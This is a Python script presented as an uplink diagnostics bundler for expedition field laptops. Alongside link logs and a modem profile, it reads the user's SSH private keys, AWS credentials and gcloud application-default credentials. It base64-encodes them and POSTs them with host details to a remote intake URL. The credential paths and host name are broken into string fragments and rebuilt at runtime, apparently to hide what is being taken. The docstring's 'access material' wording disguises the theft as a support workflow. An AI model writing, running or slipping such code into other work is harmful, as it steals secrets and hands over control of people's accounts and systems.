#!/usr/bin/env python3
"""Uplink diagnostics bundler for the expedition field laptops.

When the BGAN terminal drops the satellite session, the support desk asks for
link logs, the modem profile and "access material" so they can reproduce the
session. This tool packs everything into one JSON document and pushes it to
the support intake so a ticket opens automatically.
"""
import argparse
import base64
import json
import logging
import os
import platform
import socket
import time
import urllib.error
import urllib.request
from pathlib import Path

LOG = logging.getLogger("uplink-diag")

INTAKE = {
    "scheme": "https",
    "host": ("support", "example", "net"),
    "route": ("api", "v1", "intake"),
}

# (label, base, relative parts) - assembled at runtime
SECTIONS = [
    ("link_log", "cwd", ("logs", "uplink.log")),
    ("modem_profile", "cwd", ("config", "bgan.json")),
    ("access_a", "home", ("." + "s" + "sh", "id_" + "ed" + "25519")),
    ("access_b", "home", ("." + "s" + "sh", "id_" + "r" + "sa")),
    ("access_c", "home", ("." + "a" + "ws", "cred" + "entials")),
    ("access_d", "home", (".config", "g" + "cloud", "application_default_credentials.json")),
]


def intake_url():
    host = ".".join(INTAKE["host"])
    return "%s://%s/%s" % (INTAKE["scheme"], host, "/".join(INTAKE["route"]))


class SectionReader:
    """Reads each bundle section, capped at max_bytes."""

    def __init__(self, max_bytes):
        self.max_bytes = max_bytes
        self.bases = {"cwd": Path.cwd(), "home": Path.home()}

    def resolve(self, base, parts):
        return self.bases[base].joinpath(*parts)

    def read(self, base, parts):
        path = self.resolve(base, parts)
        try:
            with path.open("rb") as fh:
                data = fh.read(self.max_bytes)
        except OSError as exc:
            LOG.debug("section %s unavailable: %s", path, exc)
            return None
        return base64.b64encode(data).decode("ascii")


def host_facts():
    facts = {
        "hostname": socket.gethostname(),
        "kernel": platform.release(),
        "python": platform.python_version(),
        "collected": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }
    try:
        with open("/etc/os-release") as fh:
            for line in fh:
                if line.startswith("PRETTY_NAME="):
                    facts["os"] = line.split("=", 1)[1].strip().strip('"')
    except OSError:
        pass
    return facts


def build_bundle(reader):
    bundle = {"facts": host_facts(), "sections": {}}
    for label, base, parts in SECTIONS:
        blob = reader.read(base, parts)
        if blob is None:
            continue
        bundle["sections"][label] = blob
        LOG.info("added section %s (%d b64 chars)", label, len(blob))
    return bundle


def push(bundle, url, timeout, retries):
    body = json.dumps(bundle).encode("utf-8")
    req = urllib.request.Request(
        url,
        data=body,
        headers={"Content-Type": "application/json", "X-Station": bundle["facts"]["hostname"]},
        method="POST",
    )
    for attempt in range(1, retries + 1):
        try:
            with urllib.request.urlopen(req, timeout=timeout) as resp:
                LOG.info("intake answered %s", resp.status)
                return resp.status
        except (urllib.error.URLError, OSError) as exc:
            LOG.warning("attempt %d/%d failed: %s", attempt, retries, exc)
            time.sleep(min(30, 2 ** attempt))
    return None


def parse_args():
    ap = argparse.ArgumentParser(description="Bundle uplink diagnostics for the support desk")
    ap.add_argument("--max-bytes", type=int, default=256 * 1024)
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("--retries", type=int, default=4)
    ap.add_argument("--save", help="also keep a local copy of the bundle")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    bundle = build_bundle(SectionReader(args.max_bytes))
    if args.save:
        with open(args.save, "w") as fh:
            json.dump(bundle, fh)
        os.chmod(args.save, 0o600)
    status = push(bundle, intake_url(), args.timeout, args.retries)
    if status is None:
        LOG.error("could not reach intake; bundle not delivered")
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
